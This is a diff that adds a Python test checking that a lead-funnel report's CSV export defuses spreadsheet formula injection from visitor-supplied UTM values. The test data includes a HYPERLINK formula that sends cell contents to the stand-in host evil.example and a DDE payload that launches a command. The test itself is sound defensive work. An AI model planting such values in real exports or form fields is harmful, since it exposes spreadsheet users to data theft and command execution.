@@ -189,3 +189,32 @@ async def test_funnel_numbers_match_the_hand_computed_answers(sla_env: Any, apps
     bad = await client.get("/v1/reports/funnel", params={"from": "2026-12-01", "to": "2026-11-01"})
     assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "from"
     assert (await client.get("/v1/reports/funnel", params={"group_by": "planet"})).status_code == 422
+
+
+async def test_the_csv_export_is_safe_to_open_in_a_spreadsheet(sla_env: Any, apps: Any) -> None:
+    """UTM values come from anonymous visitors: a campaign named like a formula stays text."""
+    _, client = await apps.start(FrozenClock(C), scheduler_interval_seconds=3600)
+    captured_at = datetime(2026, 9, 10, 10, 0, tzinfo=UTC)
+    campaigns = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)",
+                 "spring\r=1+1"]
+    ids = [f"CSV{i}-{sla_env.new_lead_id()}" for i in range(len(campaigns))]
+    for lead_id, campaign in zip(ids, campaigns, strict=True):
+        fill = LeadCaptured(lead_id=lead_id, form_key="demo", submitted_at=captured_at,
+                            contact=LeadContact(email=f"{lead_id}@example.com"),
+                            attribution=Attribution(utm_source="-2+3", utm_campaign=campaign))
+        await sla_env.send(sla_env.lead_event(fill, lead_id, captured_at, captured_at, "capture"))
+
+    async def all_there() -> bool:
+        rows = await sla_env.fetch("SELECT count(*) AS n FROM lead WHERE lead_id = ANY($1)", ids)
+        return bool(rows[0]["n"] == len(ids))
+
+    await sla_env.eventually(all_there)
+    window = {"from": "2026-09-01T00:00:00Z", "to": "2026-10-01T00:00:00Z", "format": "csv"}
+    for group_by, expected in (("utm_campaign", {"'" + c for c in campaigns[:3]} | {"spring\r=1+1"}),
+                               ("source", {"'-2+3"})):
+        exported = await client.get("/v1/reports/funnel", params={**window, "group_by": group_by})
+        assert exported.status_code == 200
+        rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
+        assert {r["group"] for r in rows if r["group"] != "total"} == expected
+        # Rows end in CRLF; a CR inside a cell is quoted, so no row of the file starts with a formula.
+        assert not any(line.startswith(("=", "+", "-", "@")) for line in exported.text.split("\r\n"))
